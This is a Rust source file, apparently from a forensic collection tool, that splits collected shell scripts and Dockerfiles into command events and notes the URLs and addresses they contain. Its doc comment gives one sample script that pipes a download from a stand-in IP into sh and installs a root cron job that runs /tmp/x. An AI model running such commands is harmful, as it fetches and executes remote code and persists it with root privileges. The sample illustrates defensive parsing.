//! # script: scripts that were collected as files
//!
//! Shell scripts, rc.local, init scripts, scripts of other languages, Dockerfiles: one `script-command` a command, at
//! most 10,000 a file. Nothing is run or decoded; `attributes` name the `urls` and `addresses` that a command holds.
//!
//! Recognised by a shebang (`#!/bin/sh`); without one by a name such as `mac.sh` over lines that look like commands; without
//! either by the words of a shell's syntax in a good part of the lines. Histories, crontabs, unit files and rule sets are not.
//!
//! ```text
//! #!/bin/sh
//! # fetched by cron
//! curl -fsSL http://203.0.113.9/x.sh | \
//!   sh
//! cat > /etc/cron.d/x <<EOF
//! * * * * * root /tmp/x
//! EOF
//! ```
//!
//! Of shells' scripts, lines joined by `\`, open quotes and here-documents are one command of up to 4 KiB; a
//! block (`if` to `fi`) stays in its lines. Of a Dockerfile every instruction is one. Of other languages every line
//! is one. Comments are skipped. Rows have the moment of collection, if known: when a script ran is not in it.
//! `path`: the script, on its host where the bundle kept that.
//!
//! Limits: what runs cannot be told from what could. Variables stay as written.
//!
//! Sources: POSIX.1 shell command language, bash(1), the Dockerfile reference.

use coldcase_model::{Attributes, Event, Place, Sink, action};

use super::syntax::Open;
use super::targets::targets;
use super::words::{Look, is_assignment, is_cron_line, is_section, look};
use crate::formats::collected_text::{
    COMMENT, FRAME, TextLine, each_line, frame, original_path, sample, shown,
};
use crate::{Clock, Format, IngestError, Input, Leftover, Probe, Sniff};

/// The format.
pub static FORMAT: Format = Format {
    id: "script",
    title: "scripts collected as files, by line",
    source: include_str!("script.rs"),
    yearless: false,
    sniff,
    ingest,
    join: None,
};

/// Most rows of one script; what is longer is data.
const MOST_ROWS: u64 = 10_000;

/// Most lines and bytes of one command.
const MOST_LINES: u64 = 500;
const MOST_BYTES: usize = 4 << 10;

/// Interpreters that a shebang may name.
const INTERPRETERS: [&str; 18] = [
    "sh", "bash", "dash", "ash", "ksh", "zsh", "csh", "tcsh", "fish", "busybox", "python", "perl",
    "ruby", "php", "node", "awk", "expect", "lua",
];

/// Endings of scripts' names.
const ENDINGS: [&str; 11] = [
    ".sh", ".bash", ".ksh", ".zsh", ".csh", ".py", ".pl", ".rb", ".php", ".lua", "rc.local",
];

/// How lines of a script belong together.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Language {
    Shell,
    Dockerfile,
    Other,
}

/// The interpreter of a shebang, without its version.
fn interpreter(line: &str) -> Option<&str> {
    let rest = line.strip_prefix("#!")?.trim();
    let mut words = rest.split_ascii_whitespace();
    let base = |word: &'_ str| word.rsplit('/').next().unwrap_or(word).len();
    let mut word = words.next().filter(|word| word.starts_with('/'))?;
    if word.ends_with("/env") {
        word = words.find(|word| !word.starts_with('-') && !is_assignment(word))?;
    }
    let name = word.get(word.len() - base(word)..)?;
    Some(name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
}

fn is_known(interpreter: &str) -> bool {
    INTERPRETERS.contains(&interpreter) || interpreter.ends_with("awk")
}

fn is_shell(interpreter: &str) -> bool {
    interpreter.ends_with("sh") || interpreter == "busybox" || interpreter == "openrc-run"
}

/// Instructions of Dockerfiles.
const INSTRUCTIONS: [&str; 18] = [
    "FROM",
    "RUN",
    "CMD",
    "COPY",
    "ADD",
    "ENTRYPOINT",
    "ENV",
    "ARG",
    "WORKDIR",
    "EXPOSE",
    "VOLUME",
    "USER",
    "LABEL",
    "HEALTHCHECK",
    "SHELL",
    "STOPSIGNAL",
    "ONBUILD",
    "MAINTAINER",
];

fn is_instruction(line: &str) -> bool {
    let word = line.split_ascii_whitespace().next().unwrap_or_default();
    INSTRUCTIONS.contains(&word)
}

fn is_dockerfile<'a>(lines: impl Iterator<Item = &'a str>) -> bool {
    let mut lines = lines.filter(|line| !line.starts_with('#')).take(40);
    let Some(first) = lines.next() else {
        return false;
    };
    let opens = first.starts_with("FROM ") || first.starts_with("ARG ");
    opens && lines.filter(|line| is_instruction(line)).count() > 0
}

fn named(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let name = name.strip_suffix(".txt").unwrap_or(name);
    ENDINGS.iter().any(|ending| name.ends_with(ending))
        || ["/etc/init.d/", "/etc/profile.d/", "/etc/rc.d/"]
            .iter()
            .any(|folder| path.contains(folder))
        || ["rc.local", "rc_local"]
            .iter()
            .any(|start| name.starts_with(start))
        || [
            ".bashrc",
            ".profile",
            ".bash_profile",
            ".zshrc",
            ".bash_logout",
            "bash.bashrc",
        ]
        .contains(&name)
}

fn sniff(probe: &Probe<'_>) -> Sniff {
    let lines = sample(probe);
    let mut body = lines
        .iter()
        .map(|line| line.as_ref())
        .skip_while(|line| frame(line).is_some());
    let Some(first) = body.next() else {
        return Sniff::No;
    };
    if first.starts_with("#!") {
        return match interpreter(first) {
            Some(name) if is_known(name) => Sniff::Sure,
            Some(_) => Sniff::Likely,
            None => Sniff::No,
        };
    }
    if is_dockerfile(lines.iter().map(|line| line.as_ref())) {
        return Sniff::Likely;
    }
    let (mut code, mut typed, mut keywords, mut foreign, mut comments) =
        (0_usize, 0_usize, 0_usize, 0_usize, 0_usize);
    for line in lines {
        let line = line.trim();
        if line.starts_with('#') {
            comments += 1;
            let digits = line.strip_prefix('#').unwrap_or_default();
            foreign +=
                usize::from(digits.len() >= 9 && digits.bytes().all(|byte| byte.is_ascii_digit()));
            continue;
        }
        code += 1;
        foreign += usize::from(is_cron_line(line) || is_section(line) || is_rule_set(line));
        match look(line) {
            Look::Keyword => keywords += 1,
            Look::Command | Look::Path => typed += 1,
            Look::Other => {}
        }
    }
    if code == 0 || foreign > 0 && foreign * 10 >= code {
        return Sniff::No;
    }
    let fits = (typed + keywords) * 100 >= 40 * code;
    let language = !named(probe.path) || is_shell_name(probe.file_name());
    if named(probe.path) && (fits || !language) {
        return Sniff::Likely;
    }
    let syntax = keywords >= 2 && keywords * 10 >= code;
    let blocks = lines
        .iter()
        .any(|line| matches!(line.trim(), "fi" | "done" | "esac" | "}"));
    let fits = (typed + keywords) * 100 >= 55 * code && code + comments >= 4;
    if fits && syntax && blocks {
        Sniff::Weak
    } else {
        Sniff::No
    }
}

fn is_shell_name(name: &str) -> bool {
    ![".py", ".pl", ".rb", ".php", ".lua"]
        .iter()
        .any(|ending| name.ends_with(ending))
}

/// Lines of `iptables-save`, of diffs, and of languages whose statements end in a semicolon.
fn is_rule_set(line: &str) -> bool {
    (line.ends_with(';') && !line.ends_with(";;"))
        || (line.starts_with(':') && line.ends_with(']'))
        || line == "COMMIT"
        || line.starts_with("@@ ")
}

/// A command whose last line may be still to come.
struct Pending {
    line: u64,
    lines: u64,
    text: String,
    open: Open,
}

struct Reader<'a> {
    clock: &'a Clock,
    path: String,
    language: Option<Language>,
    pending: Option<Pending>,
    rows: u64,
}

fn ingest(input: &mut Input<'_>, sink: &mut dyn Sink) -> Result<Option<Leftover>, IngestError> {
    let other = !is_shell_name(input.path.rsplit('/').next().unwrap_or_default());
    let mut reader = Reader {
        clock: input.clock,
        path: original_path(input.path).to_owned(),
        language: other.then_some(Language::Other),
        pending: None,
        rows: 0,
    };
    let read = each_line(input, sink, |line, sink| reader.line(line, sink));
    reader.flush(sink);
    read.map(|()| None)
}

impl Reader<'_> {
    fn line(&mut self, line: &TextLine<'_>, sink: &mut dyn Sink) {
        let text = line.text.as_ref();
        if self.goes_on(text, sink) {
            return;
        }
        let bare = text.trim();
        let place = Place::Line(line.number);
        if bare.is_empty() {
            return;
        }
        if bare.starts_with("#!") && line.number <= 5 {
            let name = interpreter(bare).unwrap_or("sh");
            let shell = is_shell(name) || !is_known(name);
            self.language = Some(if shell {
                Language::Shell
            } else {
                Language::Other
            });
            return sink.skip(place, COMMENT);
        }
        if line.number <= 5 && frame(text).is_some() {
            return sink.skip(place, FRAME);
        }
        if bare.starts_with('#') {
            return sink.skip(place, COMMENT);
        }
        if self.rows >= MOST_ROWS {
            if self.rows == MOST_ROWS {
                self.rows += 1;
                sink.warn(
                    place,
                    format!("only the first {MOST_ROWS} commands are told"),
                );
            }
            return sink.skip(place, "after the most commands told of one script");
        }
        let docker = || bare.starts_with("FROM ") || bare.starts_with("ARG ");
        let language = *self.language.get_or_insert_with(|| {
            if docker() {
                Language::Dockerfile
            } else {
                Language::Shell
            }
        });
        let mut open = Open::default();
        if language != Language::Other {
            open.line(text);
        }
        self.pending = Some(Pending {
            line: line.number,
            lines: 1,
            text: bare.to_owned(),
            open,
        });
        if !self.waits() {
            self.flush(sink);
        }
    }

    fn waits(&self) -> bool {
        self.pending
            .as_ref()
            .is_some_and(|pending| match self.language {
                Some(Language::Dockerfile) => pending.open.backslash,
                _ => pending.open.is_one_word(),
            })
    }

    /// Takes a line that belongs to the command before it; what is beyond the bound is counted, not kept.
    fn goes_on(&mut self, text: &str, sink: &mut dyn Sink) -> bool {
        let Some(pending) = &mut self.pending else {
            return false;
        };
        if pending.lines >= MOST_LINES {
            self.flush(sink);
            return false;
        }
        if pending.open.backslash && pending.text.ends_with('\\') {
            pending.text.pop();
            let end = pending.text.trim_end().len();
            pending.text.truncate(end);
            pending.text.push(' ');
            push_bounded(&mut pending.text, text.trim());
        } else {
            push_bounded(&mut pending.text, "\n");
            push_bounded(&mut pending.text, text);
        }
        pending.lines += 1;
        pending.open.line(text);
        if !self.waits() {
            self.flush(sink);
        }
        true
    }

    fn flush(&mut self, sink: &mut dyn Sink) {
        let Some(pending) = self.pending.take() else {
            return;
        };
        let command = pending.text.trim_end_matches(['\\', ' ', '\n']);
        let found = targets(command);
        let mut attributes = Attributes::new();
        if !found.urls.is_empty() {
            attributes.texts("urls", &found.urls);
        }
        if !found.addresses.is_empty() {
            attributes.texts("addresses", &found.addresses);
        }
        sink.event(&Event {
            when: self.clock.collected(),
            command: Some(command.into()),
            path: Some(self.path.as_str().into()),
            attributes: attributes.finish().map(Into::into),
            message: Some(shown(command)),
            line: Some(pending.line),
            ..Event::new(action::SCRIPT_COMMAND)
        });
        self.rows += 1;
        sink.used(pending.lines);
    }
}

fn push_bounded(text: &mut String, more: &str) {
    let room = MOST_BYTES.saturating_sub(text.len());
    let end = more.floor_char_boundary(room.min(more.len()));
    text.push_str(more.get(..end).unwrap_or_default());
}
